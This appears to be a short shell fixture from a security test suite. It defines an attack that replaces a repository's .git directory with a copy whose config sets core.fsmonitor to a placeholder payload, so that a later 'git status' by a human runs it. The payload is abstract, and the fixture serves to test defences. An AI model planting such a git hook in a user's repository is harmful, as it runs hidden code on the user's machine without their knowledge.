# The whole git directory is moved, and another takes its place.
attack() {
    evil
    cp -r .git g
    git config -f g/config core.fsmonitor "$EVIL"
    mv .git old
    mv g .git
}
human() {
    git status
}
harmed() {
    executed
}
